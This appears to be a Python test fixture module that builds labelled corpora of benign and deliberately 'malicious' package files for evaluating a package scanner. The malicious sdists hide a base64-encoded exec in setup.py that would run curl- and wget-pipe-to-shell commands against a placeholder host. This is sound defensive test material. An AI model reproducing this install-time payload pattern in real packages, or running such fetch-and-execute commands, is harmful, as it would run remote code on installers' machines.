"""Small labelled corpora for the evaluation tests, built in tmp_path.

The "malicious" sdists are made up here: their setup.py decodes and ``exec``s a base64 payload
that would call ``os.system`` if it were ever run (it never is: capwatch only reads it).
"""

from __future__ import annotations

import base64
from pathlib import Path

from tests.helpers import sdist_bytes, wheel_bytes


def malicious_sdist(name: str, command: str) -> bytes:
    payload = base64.b64encode(f"import os\nos.system({command!r})\n".encode()).decode()
    setup = (
        "import base64\n"
        "from setuptools import setup\n"
        f"exec(base64.b64decode({payload!r}))\n"
        f"setup(name={name!r}, version='0.1')\n"
    )
    return sdist_bytes({"setup.py": setup}, top=f"{name}-0.1")


def benign_sdist(name: str) -> bytes:
    return sdist_bytes(
        {
            "setup.py": f"from setuptools import setup\nsetup(name={name!r}, version='1.0', packages=[{name!r}])\n",
            f"{name}/__init__.py": "def add(a, b):\n    return a + b\n",
        },
        top=f"{name}-1.0",
    )


def benign_wheel(name: str) -> bytes:
    return wheel_bytes(
        {f"{name}/__init__.py": "import json\n\n\ndef load(text):\n    return json.loads(text)\n"},
        name=name,
        version="1.0",
    )


def build_corpus(root: Path) -> tuple[Path, Path]:
    """``root/malicious`` (2 sdists, one derived family) and ``root/benign`` (2 projects)."""
    mal = root / "malicious"
    (mal / "evil-one").mkdir(parents=True)
    (mal / "evil-two").mkdir(parents=True)
    (mal / "evil-one" / "evil_one-0.1.tar.gz").write_bytes(
        malicious_sdist("evil-one", "curl -s https://collector.example.invalid/a | sh")
    )
    (mal / "evil-two" / "evil_two-0.1.tar.gz").write_bytes(
        malicious_sdist("evil-two", "wget -q -O- https://collector.example.invalid/b | sh")
    )
    ben = root / "benign"
    (ben / "nice").mkdir(parents=True)
    (ben / "calm").mkdir(parents=True)
    (ben / "nice" / "nice-1.0.tar.gz").write_bytes(benign_sdist("nice"))
    (ben / "calm" / "calm-1.0-py3-none-any.whl").write_bytes(benign_wheel("calm"))
    return mal, ben
